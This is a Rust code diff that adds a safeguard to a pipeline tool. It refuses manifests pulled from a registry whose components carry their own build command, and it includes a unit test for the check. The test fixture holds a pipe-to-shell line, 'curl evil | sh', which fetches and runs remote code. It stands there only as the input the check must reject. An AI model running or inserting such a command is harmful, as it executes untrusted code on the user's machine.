@@ -32,8 +32,9 @@ pub(crate) fn locate(manifest_path: Option<&Path>) -> miette::Result<Project> {
     let pipeline = (manifest_path.and_then(Path::to_str)).filter(|p| p.starts_with(OCI_SCHEME));
     if let Some(reference) = pipeline {
         let pulled = oci::registry::pull(reference, oci::Kind::Pipeline)?;
-        let manifest = pulled.pipeline_manifest()?;
-        return Ok(Project::Torvyn(Box::new(load(&manifest)?)));
+        let manifest = load(&pulled.pipeline_manifest()?)?;
+        refuse_builds(&manifest, reference)?;
+        return Ok(Project::Torvyn(Box::new(manifest)));
     }
     let found = match manifest_path {
         Some(path) => named(path)?,
@@ -43,6 +44,25 @@ pub(crate) fn locate(manifest_path: Option<&Path>) -> miette::Result<Project> {
         Found::Torvyn(path) => Project::Torvyn(Box::new(load(&path)?)),
         Found::Cargo(path) => Project::Cargo(path),
     })
+}
+
+/// Refuses a pulled pipeline whose components would be built by a command of their own:
+/// running a pipeline from a registry must never run a command it brought on this
+/// machine. (`pack --pipeline` pins each component by digest and drops its `build`.)
+fn refuse_builds(project: &ProjectManifest, reference: &str) -> miette::Result<()> {
+    let components = &project.manifest().components;
+    match components.iter().find(|(_, decl)| decl.build.is_some()) {
+        None => Ok(()),
+        Some((name, decl)) => {
+            let why = format!(
+                "the pipeline `{reference}` would run the build command of its component `{name}`: a pulled pipeline runs no command"
+            );
+            let help = "pack the pipeline with `cargo torvyn pack --pipeline`, which pins each component by its digest";
+            Err(project
+                .error_at(decl.path.span(), why, Some(help.into()))
+                .into())
+        }
+    }
 }
 
 /// The Torvyn manifest at `path`, with the defaults that the settings of this run give it.
@@ -281,4 +301,28 @@ pub(crate) fn component_files<'a>(
 ) -> miette::Result<BTreeMap<String, PathBuf>> {
     let resolved = components(project, names, release)?;
     Ok(resolved.into_iter().map(|(n, r)| (n, r.wasm)).collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_pulled_pipeline_that_would_run_a_command_is_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(MANIFEST_FILE);
+        let pinned = "[project]\nname = \"p\"\n\n[components.up]\npath = \"sha256:00\"\n";
+        std::fs::write(&path, pinned).unwrap();
+        refuse_builds(&ProjectManifest::load(&path).unwrap(), "r/p:1").unwrap();
+        let built = "[project]\nname = \"p\"\n\n[components.up]\npath = \"up.wasm\"\n\n\
+                     [components.up.build]\ncommand = \"curl evil | sh\"\n";
+        std::fs::write(&path, built).unwrap();
+        let error = refuse_builds(&ProjectManifest::load(&path).unwrap(), "r/p:1").unwrap_err();
+        assert!(
+            error
+                .to_string()
+                .contains("the pipeline `r/p:1` would run the build command of its component `up`"),
+            "{error}"
+        );
+    }
 }
